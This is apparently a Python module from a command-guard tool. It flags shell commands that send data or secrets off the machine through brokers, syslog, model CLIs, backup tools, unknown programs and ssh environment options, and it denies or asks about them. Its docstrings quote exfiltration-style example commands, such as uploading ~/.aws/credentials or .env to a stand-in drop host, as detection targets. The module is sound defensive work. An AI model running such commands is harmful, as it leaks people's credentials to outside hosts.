"""Data carried to another machine by programs that are no file transfer tool (data/channels.yaml): message
brokers (mosquitto_pub, kcat, NATS, AMQP), remote syslog (logger -n), third-party model CLIs (llm, sgpt); and
ssh's environment (SendEnv of the secrets' names, SetEnv of a credential). A secret that leaves denies;
anything else sent to another machine asks; a broker on this machine is local work."""
from __future__ import annotations

import fnmatch
import os
import posixpath
import re
from dataclasses import dataclass
from functools import lru_cache
from importlib import resources
from typing import TYPE_CHECKING

from ..infra import is_local, known_host, own_cloud_projects
from ..model import BlastRadius
from ..secrets import secret_catalog
from ..yamlfile import Field, check, load_yaml
from .findings import Finding, allow, ask, deny
from .secrets import dumps_a_credential_file, holds_credentials, is_secret, is_secret_area, secret_in_text
from .words import DYN, Word

if TYPE_CHECKING:  # pragma: no cover
    from .invocation import Invocation, Run

_LIST = Field(list, items=str)
_CHANNEL = {"commands": Field(list, required=True, items=str), "sends": _LIST, "hosts": _LIST,
            "default": Field(str, required=True, choices=("loopback", "network")), "files": _LIST,
            "operand_files": Field(bool), "plain_flags": Field(bool), "stdin": _LIST, "stdin_default": Field(bool), "messages": _LIST,
            "operand_messages": Field(bool), "quiet": Field(bool), "what": Field(str, required=True),
            "url_hosts": _LIST, "env_hosts": _LIST, "repository": Field(bool), "repository_operand": Field(bool),
            "flags": _LIST, "own_asks": Field(bool), "projects": _LIST}
SCHEMA = {"version": Field(int, required=True, choices=(1,)), "channels": Field(list, required=True, items=_CHANNEL),
          "browsers": _LIST, "url_readers": _LIST}
_LOOPBACK = re.compile(r"^(?:localhost|127(?:\.\d+){0,3}|::1|ip6-localhost|0\.0\.0\.0)$", re.I)


@dataclass(frozen=True)
class Channel:
    commands: tuple[tuple[str, ...], ...]
    spec: dict


def channels() -> tuple[Channel, ...]:
    return _data()[0]


def browsers() -> frozenset[str]:
    """Browsers that fetch the URLs they are given (cmd_net.browser judges them as fetchers)."""
    return _data()[1]


def url_readers() -> frozenset[str]:
    """Programs that fetch a URL given for a file (xmllint http://…): cmd_net.url_reader judges its metadata URLs."""
    return _data()[2]


@lru_cache(maxsize=1)
def _data() -> tuple[tuple[Channel, ...], frozenset[str], frozenset[str]]:
    text = resources.files("guardtui.core.data").joinpath("channels.yaml").read_text(encoding="utf-8")
    return parse_channels(text, "guardtui/core/data/channels.yaml")


def parse_channels(text: str, file: str = "channels.yaml") -> tuple[tuple[Channel, ...], frozenset[str], frozenset[str]]:
    doc = load_yaml(text, file, shipped=True)
    check(doc, SCHEMA)
    return (tuple(Channel(tuple(tuple(c.split()) for c in raw["commands"]), raw) for raw in doc.data["channels"]),
            frozenset(doc.data.get("browsers") or ()), frozenset(doc.data.get("url_readers") or ()))


def judge(run: "Run", inv: "Invocation") -> list[Finding]:
    name = posixpath.basename(inv.name)
    if name == "ssh":
        return ssh_environment(run, inv)
    values = [w.value for w in inv.words]
    for channel in channels():
        for command in channel.commands:
            start = _subcommand_at(values, command[1:]) if command[0] == name else None
            if start is not None:
                return _judge(run, inv, channel.spec, " ".join(command), start)
    return []


def _subcommand_at(values: list[str], wanted: tuple[str, ...]) -> int | None:
    """Where the subcommand words end, when they come in order with only options (and their values) before
    each: `nats --server nats://demo.nats.io pub`, `signal-cli -a +4477… send`, `gcloud --project p secrets …`."""
    i = 0
    for token in wanted:
        while i < len(values) and values[i] != token:
            if not values[i].startswith("-"):
                return None
            i += 1 if "=" in values[i] or i + 1 >= len(values) or values[i + 1] == token or \
                values[i + 1].startswith("-") else 2  # an option, or an option and its value
        if i >= len(values):
            return None
        i += 1
    return i


def _judge(run: "Run", inv: "Invocation", spec: dict, label: str, taken: int) -> list[Finding]:
    words = inv.words
    values = [w.value for w in words]
    if spec.get("sends") and not any(v.partition("=")[0] in spec["sends"] for v in values):
        return []
    host = _host(spec, words, inv)
    remote = host is None and spec["default"] == "network" or host is not None and not _LOOPBACK.match(host)
    where = f"{spec['what']} at {host}" if host else spec["what"]
    project = _foreign_project(spec, words, inv)
    if project is not None:
        remote, host, where = True, None, f"{spec['what']} in the project {project}, which none of your configuration names"
    secret = _secret_sent(run, inv, spec, taken)
    if secret and remote and spec.get("own_asks") and project is None and \
            (host is None or DYN in host or is_local(host) or known_host(host, inv.scope.home, _project_dir(inv))):
        return [ask(f"{label} stores {secret} in {where}, one of your own", "secrets", BlastRadius.HIGH,
                    "net.send-secret")]
    if secret and remote:
        return [deny(f"{label} sends {secret} to {where}: a secret leaving the machine", "secrets",
                     "net.send-secret")]
    if secret:
        return [ask(f"{label} sends {secret} to {where} on this machine", "secrets", BlastRadius.MEDIUM,
                    "net.send-secret")]
    if spec.get("quiet"):
        return []
    if remote:
        return [ask(f"{label} sends data to {where}", "network", BlastRadius.MEDIUM, "net.send")]
    return [allow(f"{label} talks to {where} on this machine", "network", rule="net.local-broker")]


def _project_dir(inv: "Invocation") -> str | None:
    return inv.scope.project or inv.scope.cwd


def _foreign_project(spec: dict, words: list[Word], inv: "Invocation") -> str | None:
    """The cloud project an option names (gcloud --project) when the person's configuration names it nowhere."""
    found = _option_values(words, set(spec.get("projects", ())))
    if not found or found[-1].dynamic:
        return None
    project = found[-1].value
    own = own_cloud_projects(inv.scope.home, _project_dir(inv))
    return None if project in own else project


def _option_values(words: list[Word], options) -> list[Word]:
    out = []
    for i, w in enumerate(words):
        option, eq, value = w.value.partition("=")
        if option in options and eq and (option.startswith("--") or len(option) > 2):  # --file=X, vault's -address=X
            raw = w.raw.partition("=")[2] if "=" in w.raw else value
            out.append(Word(value, raw, origin=w.origin))
        elif w.value in options and i + 1 < len(words):
            out.append(words[i + 1])
    return out


def _host(spec: dict, words: list[Word], inv: "Invocation") -> str | None:
    found = _option_values(words, set(spec.get("hosts", ())))
    urls = [w for w in _option_values(words, set(spec.get("url_hosts", ()))) if "://" in w.value]
    if spec.get("repository_operand"):  # borg create REPO::ARCHIVE: the repository is the first operand
        found = found + [w for w in _operands(spec, words) if "::" in w.value][:1]
    if not found and not urls:
        found = [Word(inv.scope.variables[v], inv.scope.variables[v]) for v in spec.get("env_hosts", ())
                 if isinstance(inv.scope.variables.get(v), str)][:1]
    if not found and not urls:
        return None
    value = (found or urls)[-1].value.split(",")[0]
    if DYN in value:
        return value.replace(DYN, "…")
    if spec.get("repository") or spec.get("repository_operand"):
        return _repository_host(value)
    return _address_host(value)


def _address_host(value: str) -> str:
    value = re.sub(r"^[a-z][a-z0-9+.-]*://", "", value, flags=re.I)
    value = value.rsplit("@", 1)[-1].split("/", 1)[0]
    m = re.match(r"^\[([^\]]*)\]", value)
    return m.group(1) if m else value.split(":", 1)[0] if value.count(":") <= 1 else value


def _repository_host(value: str) -> str:
    """Where a backup repository lives (restic -r, borg's REPO::ARCHIVE): a path is this machine; sftp:, rest:,
    ssh://, user@host:path a host; a cloud backend (s3:, b2:, gs:, azure:, rclone:) another machine."""
    value = value.split("::", 1)[0]
    if value.startswith(("/", "./", "../", "~")) or "/" not in value and ":" not in value:
        return "localhost"
    backend, _, rest = value.partition(":")
    if "://" in value and not re.match(r"^(?:rest|sftp|s3|swift)://", value):
        rest = value if re.match(r"^[a-z][a-z0-9+.-]*://", value) else rest
        return _address_host(rest)
    if backend in ("rest", "s3", "swift"):
        return _address_host(rest)
    if backend == "sftp":
        return _address_host(rest.split(":", 1)[0] if "://" not in rest else rest)
    if backend in ("b2", "gs", "azure", "rclone"):
        return f"{backend} ({rest.split(':', 1)[0]})"
    host = value.rsplit("@", 1)[-1].split(":", 1)[0]  # user@host:path, host:path
    return host


def _operands(spec: dict, words: list[Word]) -> list[Word]:
    """The words that are no option nor an option's value."""
    valued = set(spec.get("files", ())) | set(spec.get("hosts", ())) | set(spec.get("messages", ())) | \
        set(spec.get("url_hosts", ())) | set(spec.get("projects", ()))
    flags = set(spec.get("flags", ())) | set(spec.get("sends", ())) | set(spec.get("stdin", ()))
    out: list[Word] = []
    skip = False
    for w in words:
        if skip:
            skip = False
            continue
        if w.value in flags:
            continue
        if w.value in valued or (w.value.startswith("-") and len(w.value) == 2 and spec.get("operand_files")
                                 and not spec.get("plain_flags")):
            skip = True  # kcat -t TOPIC: a short option takes a value
            continue
        if not w.value.startswith("-"):
            out.append(w)
    return out


def _secret_sent(run: "Run", inv: "Invocation", spec: dict, taken: int) -> str | None:
    """What secret the command sends: a file, its stdin, a message."""
    words = inv.words
    files = _option_values(words, set(spec.get("files", ())))
    operands = _operands(spec, words[taken:])  # after the subcommand
    if spec.get("repository_operand"):
        operands = [w for w in operands if "::" not in w.value]
    if spec.get("operand_files"):
        files += operands
    for w in files:
        if w.value == "-" and run.stdin_source(inv.cmd).kind == "secret":  # --body-file -: its input
            return "secrets on its input (keys, credentials or the environment)"
        found = _file_secret(run, inv, w)
        if found:
            return found
    sends_stdin = bool(set(w.value for w in words) & set(spec.get("stdin", ()))) or \
        (spec.get("stdin_default") and not files and not _option_values(words, set(spec.get("messages", ()))))
    if sends_stdin and run.stdin_source(inv.cmd).kind == "secret":
        return "secrets on its input (keys, credentials or the environment)"
    messages = _option_values(words, set(spec.get("messages", ())))
    if spec.get("operand_messages"):
        messages += operands
    for w in messages:
        setting = re.match(r"^[\w.-]+=@(.+)$", w.value)  # vault kv put PATH key=@FILE: the file's content
        if setting and not w.dynamic:
            found = _file_secret(run, inv, Word(setting.group(1), setting.group(1)))
            if found:
                return found
        if re.match(r"fileb?://", w.value):  # the aws CLI's file://PATH: the value is the file's content
            path = w.value.split("://", 1)[1]
            found = _file_secret(run, inv, Word(path, path))
            if found:
                return found
            continue
        if w.dynamic and (secret_in_text(w.raw + " " + w.origin, inv.scope) or
                          dumps_a_credential_file(w.raw + " " + w.origin, inv.scope)):
            return f"secrets ({w.raw})"
        credential = secret_catalog().credential_in_message(w.value)
        if credential:
            return credential
        variable = _secret_variable(w.raw) if w.dynamic else None
        if variable:
            return f"the value of ${variable}"
    return None


def _secret_variable(raw: str) -> str | None:
    """A variable a message passes whose name says it holds a credential (`AWS_SECRET_ACCESS_KEY="$AWS_SECRET_…"`
    after `. ./.env`): a known credential variable, or a name that says secret and not public."""
    catalog = secret_catalog()
    names, public = catalog.settings.get("names"), catalog.settings.get("public")
    for name in re.findall(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)", raw):
        if name in catalog.environment_names or (names is not None and public is not None and names.search(name)
                                                 and not public.search(name)):
            return name
    return None


def _file_secret(run: "Run", inv: "Invocation", w: Word) -> str | None:
    """The secret a file it sends is or holds."""
    if w.dynamic:
        return None
    info = run.path(w, inv)
    if info.path and (is_secret(info.path, inv.scope.home, run.tax) or is_secret_area(info.path, inv.scope.home)
                      or run.holds_secret(info.path, inv.scope.home)):  # a recording of a secret made above
        return f"{w.display()} (keys or credentials)"
    held = holds_credentials(info.path) if info.path and not inv.scope.remote else None
    return f"{w.display()}, which holds {held}" if held else None


# -- a program guardtui does not know, handed a secret and an address ----------------------------------------
_URL = re.compile(r"^(?!file:)[a-z][a-z0-9+.-]*://(?:[^@/\s]*@)?(\[[^\]]+\]|[^/:\s?#@]+)", re.I)
_SCP = re.compile(r"^[\w.-]+@(\[[^\]]+\]|[\w.-]+):")
_HOST_PORT = re.compile(r"^((?:[a-z0-9-]+\.)+[a-z0-9-]+|\d+\.\d+\.\d+\.\d+):\d{2,5}(?:/|$)", re.I)


def unknown_program(run: "Run", inv: "Invocation") -> list[Finding]:
    """`sharetool .env https://drop.example/in`, `uploadr --to host:9000 ~/.aws/credentials`: a program guardtui
    does not know, given a secret file and a place on another machine none of the person's configuration names,
    most likely carries the one to the other."""
    values = []
    for w in inv.words:
        if w.dynamic:
            continue
        option, eq, value = w.value.partition("=")
        if not w.value.startswith("-"):
            values.append(w)
        elif eq and value:
            values.append(Word(value, value))
    host = next((h for w in values if (h := _remote_address(w.value)) and not is_local(h)
                 and not known_host(h, inv.scope.home, _project_dir(inv))), None)
    if host is None:
        return []
    for w in values:
        if _remote_address(w.value):
            continue
        info = run.path(w, inv)
        if not info.path or inv.scope.remote or not (os.path.lexists(info.path) or "/" in w.value
                                                      and is_secret_area(info.path, inv.scope.home)):
            continue  # a file there, or a path into ~/.ssh, ~/.aws: `-u oauth2accesstoken` is a user name
        found = _file_secret(run, inv, w)
        if found:
            name = posixpath.basename(inv.written_name or inv.name)
            return [deny(f"{name}, a program guardtui does not know, is given {found} and the address {host}: a "
                         f"secret handed to something that sends it off the machine", "secrets", "net.send-secret")]
    return []


def _remote_address(value: str) -> str | None:
    for rx in (_URL, _SCP, _HOST_PORT):
        m = rx.match(value)
        if m:
            return m.group(1).strip("[]").lower()
    return None


# -- ssh's environment ------------------------------------------------------------------------------------
def ssh_environment(run: "Run", inv: "Invocation") -> list[Finding]:
    """`ssh -o SendEnv='AWS_*'`, `ssh -o SetEnv=DB_URL=postgres://u:pw@…`: the variables go to the far host's sshd
    as the session starts."""
    words = inv.words
    host = next((w.value for i, w in enumerate(words) if not w.value.startswith("-") and
                 not (i and re.fullmatch(r"-[a-zA-Z]*[BbcDEeFIiJLlmOopQRSWw]", words[i - 1].value))), "")
    if _LOOPBACK.match(host.rsplit("@", 1)[-1]):
        return []
    attached = [w.value[2:] for w in words if w.value.startswith("-o") and len(w.value) > 2]  # -oSendEnv=X
    for option in [w.value for w in _option_values(words, {"-o"})] + attached:
        key, value = (re.split(r"\s*[=\s]\s*", option.strip(), maxsplit=1) + [""])[:2]
        if key.lower() == "sendenv":
            sent = secret_names(value, inv.scope.variables)
            if sent:
                return [deny(f"ssh -o SendEnv passes {sent} to {host or 'the host'}: secrets leave the machine",
                             "secrets", "net.send-secret")]
        if key.lower() == "setenv":
            credential = secret_catalog().credential_in_message(value)
            if credential:
                return [deny(f"ssh -o SetEnv sends {credential} to {host or 'the host'}", "secrets",
                             "net.send-secret")]
    return []


def secret_names(patterns: str, variables: dict) -> str | None:
    """The variables a SendEnv list passes that hold secrets: a name the environment filter says is one, a known
    credential variable, or a variable set here whose value is a credential."""
    catalog = secret_catalog()
    environment = catalog.settings.get("environment")
    known = list(catalog.environment_names) + [n for n in variables if isinstance(n, str)]
    for pattern in patterns.replace(",", " ").split():
        if pattern.startswith("-"):
            continue
        literal = pattern.replace("*", "").replace("?", "")
        if pattern.strip("*?") == "" or (environment is not None and literal and environment.search(literal)):
            return pattern
        for name in known:
            if fnmatch.fnmatchcase(name, pattern):
                value = variables.get(name)
                if name in catalog.environment_names or (isinstance(value, str) and
                                                         catalog.credential_in_message(f"{name}={value}")):
                    return name
    return None


__all__ = ["judge", "unknown_program", "channels", "browsers", "url_readers", "parse_channels", "ssh_environment", "secret_names"]
